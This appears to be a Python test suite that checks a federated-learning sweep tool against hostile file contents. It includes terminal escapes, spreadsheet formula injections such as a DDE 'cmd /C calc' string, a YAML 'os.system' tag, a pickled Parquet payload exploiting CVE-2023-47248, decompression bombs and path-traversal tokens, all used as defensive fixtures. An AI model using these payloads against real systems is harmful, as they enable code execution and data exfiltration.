"""Attacks with the content of files: terminal escapes, formulas, huge numbers, deep nesting, files that expand."""

import csv
import io
import json
import shutil
import time
import zipfile
from unittest.mock import MagicMock

import numpy as np
import pyarrow
import pyarrow.parquet
import pytest
import yaml
from handmade_ledgers import change, change_json
from rich.console import Console

import fedsweep as fedsweep_package
from orchestrator.execution.progress import progress_table
from orchestrator.report.benchmark import lookup
from orchestrator.report.tables.render import frame_to_csv
from orchestrator.results import remote_lock, status
from orchestrator.results.best_file import read_best
from orchestrator.results.ledger import Ledger
from trainables.data import feature_file, features
from trainables.data.importing.reading import read_table
from trainables.errors import UserError
from trainables.federation.saved_model import SavedModel
from trainables.urls import shown

ESCAPE = "\x1b]0;owned\x07\x1b[31m\u202e"
DEEP = "[" * 100_000
BIG = "9" * 5000


# ---- the terminal


@pytest.mark.parametrize(
    ("statement", "values"),
    [
        ("UPDATE trials SET state = 'failed', reason = ?", (ESCAPE,)),
        ("INSERT INTO failures (trials, first_key, reason, at) VALUES (1, ?, ?, 1)", (ESCAPE, ESCAPE)),
        ("INSERT OR REPLACE INTO environments SELECT number, 'device', ? FROM sessions", (ESCAPE,)),
        ("INSERT OR REPLACE INTO environments SELECT number, 'logs', ? FROM sessions", (ESCAPE,)),
        ("INSERT OR REPLACE INTO meta VALUES ('plugins', ?)", (json.dumps([ESCAPE]),)),
    ],
)
def test_a_ledger_sends_nothing_to_the_terminal(statement, values, results, fedsweep):
    change(results, statement, *values)
    for command in ("status", "best", "tables"):
        _, out, err = fedsweep(command, results)
        assert "Traceback" not in err
        assert not {"\x1b", "\x07", "\u202e"} & set(out + err)


@pytest.mark.parametrize("place", ["data", "methods"])
def test_labels_send_nothing_to_the_terminal(place, results, fedsweep):
    change_json(results, "studies", "study", lambda study: study[place][0].update(label=ESCAPE))
    for command in ("status", "best"):
        code, out, err = fedsweep(command, results)
        assert code == 0, err
        assert not {"\x1b", "\x07", "\u202e"} & set(out + err)


def test_the_view_of_a_running_sweep_sends_nothing_to_the_terminal():
    search = MagicMock(stages={}, trials_to_come=dict)
    search.name, search.variant.strategy.publishes_only_winner = f"name {ESCAPE}", True
    sweep = MagicMock(searches=[search])
    sweep.prepared.study.stages = []
    console = Console(file=io.StringIO())
    console.print(progress_table(sweep))
    assert "name" in console.file.getvalue()
    assert not {"\x1b", "\x07", "\u202e"} & set(console.file.getvalue())


def test_an_unexpected_error_sends_nothing_to_the_terminal(fedsweep, monkeypatch):
    def broken(*_):
        raise RuntimeError(f"no {ESCAPE} at s3://user:secret@bucket/x")

    monkeypatch.setattr(status, "read", broken)
    code, out, err = fedsweep("status", "x")
    assert code == 1
    assert "RuntimeError: no" in err
    assert "secret" not in err
    assert not {"\x1b", "\x07", "\u202e"} & set(out + err)


# ---- values

SPECS = {
    "nested without end": DEEP,
    "too many digits": f'{{"seed": {BIG}}}',
    "no mapping": "[]",
    "no hyperparameters": "{}",
    "a formula": {"=cmd|' /C calc'!A0": 1},
    "an escape": {"learning_rate": ESCAPE},
    "a mapping": {"learning_rate": {"a": 1}},
    "a path": {"../../x": 1},
}


@pytest.mark.parametrize("name", SPECS)
def test_a_specification_that_is_none_is_damage(name, results, fedsweep):
    value = SPECS[name]
    if isinstance(value, str):
        change(results, "UPDATE trials SET spec = ?", value)
    else:
        change_json(results, "trials", "spec", lambda spec: spec["hyperparameters"].update(value))
    for command in ("status", "tables", "report"):
        code, _, err = fedsweep(command, results)
        assert code == 2
        assert "is damaged" in err
        assert err.count("\n") == 1


def test_a_huge_number_of_rounds_takes_no_memory(results, fedsweep):
    change_json(results, "trials", "spec", lambda spec: spec.update(rounds=10**15))
    code, _, err = fedsweep("tables", results)
    assert code == 2
    assert "is damaged" in err


DAMAGE = {
    "plug-ins are nested": ("INSERT OR REPLACE INTO meta VALUES ('plugins', ?)", DEEP),
    "plug-ins are numbers": ("INSERT OR REPLACE INTO meta VALUES ('plugins', ?)", "[5]"),
    "plug-ins are a mapping": ("INSERT OR REPLACE INTO meta VALUES ('plugins', ?)", '{"a": 5}'),
    "partitions are nested": ("UPDATE partitions SET counts = ?", DEEP),
    "partitions are a mapping": ("UPDATE partitions SET counts = ?", '{"a": 1}'),
    "partitions are text": ("UPDATE partitions SET counts = ?", '[[1, "x"]]'),
    "no record is protected": ("UPDATE settings SET protected = ?", 0),
    "negative rows": ("UPDATE settings SET test_rows = ?", -5),
    "more than all rows": ("UPDATE settings SET test_rows = ?", 2**62),
    "accuracy is infinite": ("UPDATE trials SET accuracy = ?", float("inf")),
    "accuracy above 100": ("UPDATE trials SET accuracy = ?", 1e300),
    "reasons are bytes": ("INSERT INTO failures (trials, first_key, reason, at) VALUES (1, 'a', ?, 1)", b"x"),
}


@pytest.mark.parametrize("name", DAMAGE)
def test_values_that_no_ledger_has_are_damage(name, results, fedsweep):
    change(results, *DAMAGE[name])
    code, _, err = fedsweep("report", results)
    assert code == 2
    assert "is damaged" in err
    assert err.count("\n") == 1


GROUP = '["a", "b", 1, 2, 3, "c"]'
META = "INSERT OR REPLACE INTO meta VALUES (?, ?)"
SECRETS = "INSERT OR REPLACE INTO secrets VALUES (?, ?, x'')"
CLIENTS = "INSERT OR REPLACE INTO test_clients VALUES ('data', ?, ?)"
UNREADABLE = (
    *((META, ("plugin_code", text)) for text in ("[]", "5", '["a"]', '{"a": 5}', '{"a": ["b"]}', DEEP, BIG)),
    *((META, ("memory limits", text)) for text in ("{}", "5", "[]", '["", 5]', '["", [5]]', '["", [["a", 1]]]', DEEP)),
    *((META, ("memory limits", f'["", [[{GROUP}, {lanes}]]]')) for lanes in ("0", "-1", "1.5", "null", '"8"', BIG)),
    *((SECRETS, (1, secret)) for secret in (b"", b"short", b"k" * 33, "k" * 32, 5)),
    (SECRETS, (99, b"k" * 32)),
    *((CLIENTS, (text, "[]")) for text in ("", "5", "{}", '["a"]', "[1.5]", "[-1]", DEEP, BIG, b"[]")),
    *((CLIENTS, ("[0]", text)) for text in ("", "5", "{}", "[5]", DEEP, BIG, b"[]")),
    *((META, ("names", text)) for text in ("[]", "5", '{"a": []}', '{"a": [[], 5]}', '{"a": [[5], []]}', DEEP, BIG)),
)


@pytest.mark.parametrize(("statement", "values"), UNREADABLE)
def test_hashes_secrets_and_memory_limits_are_checked(statement, values, results, tmp_path, fedsweep):
    change(results, statement, *values)
    for opened in (Ledger.read, Ledger.write):
        with pytest.raises(UserError, match="is damaged"), opened(results) as ledger:
            _ = ledger.plugin_code(), ledger.secrets(), ledger.memory_limits(""), ledger.test_clients(), ledger.names()
    if "memory limits" not in values:
        code, _, err = fedsweep("merge", results, "--results", tmp_path / "merged")
        assert code == 2
        assert "is damaged" in err
        assert err.count("\n") == 1
        assert "short" not in err


def test_memory_limits_are_read_back(tmp_path):
    limits = {("a", "b", 1, 2, 3, "c"): 8}
    with Ledger.write(tmp_path / "r") as ledger:
        ledger.set_memory_limits("cpu", limits)
        assert ledger.memory_limits("cpu") == limits
        assert ledger.memory_limits("cuda") == {}


def test_a_long_word_is_printed_at_once(results, fedsweep):
    """Looking for URLs in a message took minutes."""
    change(results, META, "schema", "a" * 100_000)
    code, _, err = fedsweep("status", results)
    assert code == 2
    assert len(err) < 1000
    began = time.process_time()
    assert shown("a" * 100_000 + "https://user:password@host/x").endswith("https://host/x")
    assert time.process_time() - began < 5


def test_headers_of_csv_files_are_no_formulas():
    import pandas as pd

    text = frame_to_csv(pd.DataFrame({"=1+1": [1], "@x": ["=2"], "a": ["b"], "label": ["-1"]}))
    assert text.splitlines() == ["'=1+1,'@x,a,label", "1,'=2,b,-1"]


def test_predicted_classes_are_no_formulas(tmp_path, fedsweep):
    """Names of classes come with the model. Numbers stay as they are, signed ones too."""
    names = ('=HYPERLINK("http://host.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1", "+1\n=2")
    weights = np.concatenate([10 * np.eye(4, dtype=np.float32).reshape(-1), np.zeros(4, np.float32)])
    provenance = {"epsilon": {"claimed": 1.0}, "delta": 1e-5}
    SavedModel(weights, "softmax", 4, 4, provenance, class_names=names).save(tmp_path / "m.npz")
    np.savez(tmp_path / "x.npz", x_test=np.eye(4, dtype=np.float32))
    assert fedsweep("predict", tmp_path / "m.npz", tmp_path / "x.npz", "--output", tmp_path / "out.csv")[0] == 0
    with (tmp_path / "out.csv").open(newline="") as file:
        written = [cell for (cell,) in csv.reader(file)]
    assert written == ["class", f"'{names[0]}", f"'{names[1]}", "-1", "'+1 =2"]


def test_names_are_text_in_a_notebook(results):
    """Jupyter shows data frames as HTML, in which a script could run code through the kernel."""
    found = fedsweep_package.load_results(results)
    for frame in (found.trials, found.configurations, found.rounds, found.cells, found.winners):
        shown = frame._repr_html_()
        assert "&lt;img" in shown
        assert "<img" not in shown
    assert not hasattr(found, "_repr_html_")


# ---- other files


@pytest.mark.parametrize("text", [DEEP, "a: &a [x]\n" + "".join(f"b{n}: &b{n} [{'*a, ' * 9}*a]\n" for n in range(3)) +
                                  "cells: *b2", f"cells: {{a: {{delta: {BIG}}}}}", "cells: &c {a: *c}",
                                  "cells: !!python/object/apply:os.system [id]"])  # fmt: skip
def test_best_yaml_is_read_with_limits(text, tmp_path, fedsweep):
    (tmp_path / "best.yaml").write_text(text)
    code, _, err = fedsweep("train", "--from", tmp_path / "best.yaml")
    assert code == 2
    assert err.count("\n") == 1


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *(("data", value) for value in (None, 5, [], {})),
        *(("method", value) for value in (None, 5, True)),
        *(("partition", value) for value in (None, 5, {})),
        *(("hyperparameters", value) for value in ("", [], 5)),
        *(("validation_seed", value) for value in ("x", None)),
    ],
)
def test_values_of_best_yaml_are_checked(key, value, written, tmp_path, fedsweep):
    from handmade_ledgers import build

    build(shutil.copytree(written, tmp_path / "r"))
    content = yaml.safe_load((tmp_path / "r" / "best.yaml").read_text())
    cell = next(iter(content["cells"]))
    content["cells"][cell] |= {key: value, "fingerprint": "synthetic-frozen:1:600,20,12,4"}
    (tmp_path / "best.yaml").write_text(yaml.safe_dump(content))
    code, _, err = fedsweep("train", "--from", tmp_path / "best.yaml", "--cell", cell)
    assert code == 2
    assert "best.yaml was not written by a sweep" in err
    assert err.count("\n") == 1


def archive(path, name, array, compression=zipfile.ZIP_DEFLATED, **others):
    with zipfile.ZipFile(path, "w", compression) as file:
        for each, content in {name: array, **others}.items():
            buffer = io.BytesIO()
            np.save(buffer, content)
            file.writestr(f"{each}.npy", buffer.getvalue())


def test_a_model_that_expands_is_refused(tmp_path):
    """`save` does not compress, so a model is as large as its file."""
    archive(tmp_path / "m.npz", "weights", np.zeros(5_000_000, np.float32), about=np.array("{}"))
    assert (tmp_path / "m.npz").stat().st_size < 100_000
    with pytest.raises(UserError, match="is compressed"):
        SavedModel.load(tmp_path / "m.npz")


def test_a_feature_file_that_expands_without_measure_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(feature_file, "EXPANDS_FROM_BYTES", 1 << 20)
    zeros = np.zeros((100_000, 50), np.float32)
    labels = np.arange(100_000) % 2
    others = {"y_train": labels, "x_test": zeros[:10], "y_test": labels[:10]}
    archive(tmp_path / "f.npz", "x_train", zeros, **others)
    with pytest.raises(UserError, match="x_train expands to 20,000,128 bytes"):
        features.load(str(tmp_path / "f.npz"))
    archive(tmp_path / "f.npz", "x_train", np.random.default_rng(0).random((1000, 50), np.float32),
            **{**others, "y_train": labels[:1000]})  # fmt: skip
    assert len(features.load(str(tmp_path / "f.npz")).x_train) == 1000


def test_a_table_that_expands_without_measure_is_refused(tmp_path, monkeypatch):
    """Repeated values take no space in Parquet, and zeros almost none in an npz archive."""
    monkeypatch.setattr(feature_file, "EXPANDS_FROM_BYTES", 1 << 20)
    text = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 20_000), ["x" * 50_000])
    for name, column in (("many", pyarrow.array([0] * 10_000_000, pyarrow.int8())), ("long", text)):
        pyarrow.parquet.write_table(pyarrow.table({name: column}), tmp_path / f"{name}.parquet")
        assert (tmp_path / f"{name}.parquet").stat().st_size < 110_000
        with pytest.raises(UserError, match="its table expands to"):
            read_table(str(tmp_path / f"{name}.parquet"))
    np.savez_compressed(tmp_path / "z.npz", x=np.zeros((100_000, 50), np.float32), y=np.zeros(100_000, np.int64))
    with pytest.raises(UserError, match="its table expands to"):
        read_table(str(tmp_path / "z.npz"))


def npy(dtype, shape):
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}"
    return b"\x93NUMPY\x01\x00v\x00" + header.ljust(117).encode() + b"\n"


HOSTILE_TABLES = {
    "deep.jsonl": DEEP.encode(),
    "large.jsonl": b'{"a": ' + b"9" * 4000 + b"}",
    "very-large.jsonl": f'{{"a": {BIG}}}'.encode(),
    "nested.jsonl": b'{"a": {"b": 1}}',
    "empty.parquet": b"",
    "cut.parquet": b"PAR1" + b"\xff" * 20 + b"\xff\xff\xff\x7fPAR1",
    "object.npy": npy("|O", "(1,)") + b".",
    "huge.npy": npy("<f8", "(99999999999999,)"),
    "wide.svm": b"1 99999999999999:1\n",
}


@pytest.mark.parametrize("name", HOSTILE_TABLES)
def test_a_hostile_table_is_one_sentence(name, tmp_path, fedsweep):
    (tmp_path / name).write_bytes(HOSTILE_TABLES[name])
    code, _, err = fedsweep("data", "import", tmp_path / name, "--label", "a", "--to", tmp_path / "out.npz")
    assert code == 2, err
    assert err.count("\n") == 1
    assert "Traceback" not in err


def test_code_in_the_metadata_of_parquet_is_not_executed(tmp_path):
    """Old versions of pyarrow unpickled the types of columns (CVE-2023-47248)."""
    planted = tmp_path / "planted"
    pickled = b"cos\nsystem\n(S'touch " + str(planted).encode() + b"'\ntR."
    metadata = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickled}
    field = pyarrow.field("a", pyarrow.int64(), metadata=metadata)
    table = pyarrow.table([pyarrow.array([1, 2])], schema=pyarrow.schema([field]))
    pyarrow.parquet.write_table(table, tmp_path / "t.parquet")
    assert read_table(str(tmp_path / "t.parquet"))["a"].tolist() == [1, 2]
    assert not planted.exists()


def model_file(path, weights=None, **changed):
    """A model whose description is whatever the attacker likes."""
    about = {"format": 1, "model": "softmax", "features": 4, "classes": 2, "class_names": [], "schema": "",
             "backbone": "", "provenance": {"epsilon": {"claimed": 1.0}, "delta": 1e-5}} | changed  # fmt: skip
    text = changed["about"] if "about" in changed else json.dumps(about)
    np.savez(path, weights=np.zeros(10, np.float32) if weights is None else weights, about=text)


BACKBONE = {"details": {"weights": "sha256:0"}, "rows": "images", "column": "", "label": ""}
HOSTILE_MODELS = {
    "deep": {"about": DEEP},
    "no JSON": {"about": "{"},
    "large number": {"about": '{"features": ' + BIG + "}"},
    "huge": {"features": 10**9, "classes": 10**9},
    "huge layer": {"model": f"mlp:{10**12}"},
    "boolean": {"features": True},
    "other type": {"weights": np.zeros(10)},
    "names": {"class_names": ["a", 5]},
    "plug-in": {"model": "../../evil:5"},
    "escapes": {"model": ESCAPE},
    "schema": {"schema": DEEP},
    "wide schema": {"schema": '{"label": "a", "columns": {"features": {"width": 999999999999999}}}'},
    "deep backbone": {"backbone": DEEP},
    "no backbone": {"backbone": "{"},
    "code as a backbone": {"backbone": json.dumps(BACKBONE | {"name": "os:abort"})},
    "repository as a backbone": {"backbone": json.dumps(BACKBONE | {"name": "timm.hf-hub:evil/model"})},
    "path as a backbone": {"backbone": json.dumps(BACKBONE | {"name": "../../evil"})},
    "URL as a schema": {"schema": "http://host.example/schema.yaml"},
}


@pytest.mark.parametrize("name", HOSTILE_MODELS)
def test_a_hostile_model_is_one_sentence(name, tmp_path, fedsweep):
    model_file(tmp_path / "m.npz", **HOSTILE_MODELS[name])
    (tmp_path / "t.svm").write_text("0 1:1\n1 2:1\n")
    code, _, err = fedsweep("predict", tmp_path / "m.npz", tmp_path / "t.svm", "--output", tmp_path / "out.csv")
    assert code == 2, err
    assert err.count("\n") == 1
    assert "\x1b" not in err
    assert not (tmp_path / "out.csv").exists()


PROVENANCES = ({}, {"epsilon": 5}, {"epsilon": {"claimed": "x"}, "delta": 1e-5},
               {"epsilon": {"claimed": 1.0}, "delta": ESCAPE})  # fmt: skip


@pytest.mark.parametrize("provenance", PROVENANCES)
def test_a_model_with_other_provenance_is_one_sentence(provenance, tmp_path, fedsweep):
    model = SavedModel(np.zeros(10, np.float32), "softmax", 4, 2, provenance)
    model.save(tmp_path / "m.npz")
    command = ("predict", tmp_path / "m.npz", "synthetic-frozen:60,20,4,2", "--output", tmp_path / "out.csv")
    code, _, err = fedsweep(*command)
    assert code == 2
    assert err.count("\n") == 1
    assert "m.npz" in err


def test_a_table_with_too_many_rows_is_refused(tmp_path, monkeypatch):
    pyarrow.parquet.write_table(pyarrow.table({"a": pyarrow.array([0] * 100_000)}), tmp_path / "t.parquet")
    monkeypatch.setattr(lookup, "MOST_VALUES", 10_000)
    with pytest.raises(UserError, match="holds more than 10000 values"):
        lookup.read(tmp_path / "t.parquet")


@pytest.mark.parametrize("file", ["s3://bucket/t.parquet", "reference://x::https://host.example/r.json"])
def test_a_table_is_a_local_file(file):
    with pytest.raises(UserError, match="cannot be read as Parquet"):
        lookup.read(file)


TOKEN = "0123456789abcdef"
LOCKS = ([], 5, "x", {}, {"holder": 5}, {"holder": ESCAPE, "alive": 0, "token": TOKEN},
         {"holder": "a", "alive": "now", "token": TOKEN}, {"holder": "a", "alive": 0, "token": "/../../victim"},
         {"holder": "a", "alive": 0, "token": "../victim"}, {"holder": "a", "alive": 0, "token": ""})  # fmt: skip


@pytest.mark.parametrize("lock", LOCKS)
def test_a_hostile_lock_names_no_path(lock, written, tmp_path, fedsweep, monkeypatch):
    """A token becomes part of the name of a file."""
    monkeypatch.setattr(remote_lock, "PATIENCE_S", 0.1)
    results = shutil.copytree(written, tmp_path / "results")
    (results / "remote.lock").write_text(json.dumps(lock))
    (results / "remote.lock.").mkdir()
    before = sorted(path.name for path in tmp_path.iterdir())
    for command in (("status",), ("resume", "--backend", "local")):
        _, out, err = fedsweep(command[0], f"file://{results}", *command[1:])
        assert "Traceback" not in err
        assert "\x1b" not in out + err
    assert sorted(path.name for path in tmp_path.iterdir()) == before


def test_locks_that_follow_each_other_in_a_circle_end(written, tmp_path, fedsweep):
    results = shutil.copytree(written, tmp_path / "results")
    lock = json.dumps({"holder": "a", "alive": 0, "token": TOKEN})
    for name in ("remote.lock", f"remote.lock.{TOKEN}"):
        (results / name).write_text(lock)
    code, _, err = fedsweep("resume", f"file://{results}", "--backend", "local")
    assert code == 2
    assert "Traceback" not in err


def test_read_best_accepts_what_is_written(written):
    from handmade_ledgers import build

    build(written)
    assert read_best(written / "best.yaml")
